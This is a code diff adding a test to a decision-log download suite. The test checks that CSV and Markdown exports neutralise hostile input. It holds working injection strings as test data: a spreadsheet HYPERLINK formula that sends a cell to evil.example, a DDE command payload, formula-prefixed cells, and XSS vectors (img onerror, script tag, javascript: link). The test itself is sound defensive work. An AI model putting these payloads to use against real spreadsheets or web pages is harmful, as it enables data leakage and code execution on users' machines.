@@ -64,4 +64,64 @@ describe('decision log downloads', () => {
     expect((await fetch(`${base}.json?token=nope`)).status).toBe(401)
     expect((await fetch(`${base}.pdf?token=${workshop.tokens.observer}`)).status).toBe(404)
   })
+
+  it('serves a hostile decision inert: no CSV cell a spreadsheet would run, no HTML, links or images in Markdown', async () => {
+    createDecision(
+      client.doc,
+      {
+        title: '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
+        context:
+          '<img src=x onerror=alert(1)> [clic](javascript:alert(1)) ![](https://evil.example/p.png)',
+        options: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'],
+        decision: '\t=1+1',
+        rationale: '\r=1+1 <script>alert(1)</script>',
+      },
+      'test',
+    )
+    const observer = connectClient(server.syncUrl, workshop.id, workshop.tokens.observer)
+    await synced(observer)
+    await waitFor('the decision on the server', () => listDecisions(observer.doc).length === 1)
+    observer.destroy()
+    const base = `${server.url}/api/workshops/${workshop.id}/decisions`
+    const auth = { headers: { Authorization: `Bearer ${workshop.tokens.participant}` } }
+
+    const csv = (await (await fetch(`${base}.csv`, auth)).text()).replace(/^\uFEFF/, '')
+    const cells = parseCsv(csv).flat()
+    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true)
+    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/)
+
+    const md = await (await fetch(`${base}.md`, auth)).text()
+    expect(md).toContain('HYPERLINK')
+    expect(md).not.toMatch(/<img|<script|<a /i)
+    expect(md).not.toMatch(/\]\(javascript:/i)
+    expect(md).not.toContain('![')
+  })
 })
+
+/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
+const parseCsv = (text: string): string[][] => {
+  const rows: string[][] = [[]]
+  let cell = ''
+  let quoted = false
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i] as string
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') {
+        cell += '"'
+        i++
+      } else if (char === '"') quoted = false
+      else cell += char
+    } else if (char === '"') quoted = true
+    else if (char === ',') {
+      rows.at(-1)?.push(cell)
+      cell = ''
+    } else if (char === '\n' || (char === '\r' && text[i + 1] === '\n')) {
+      if (char === '\r') i++
+      rows.at(-1)?.push(cell)
+      cell = ''
+      rows.push([])
+    } else cell += char
+  }
+  rows.at(-1)?.push(cell)
+  return rows
+}
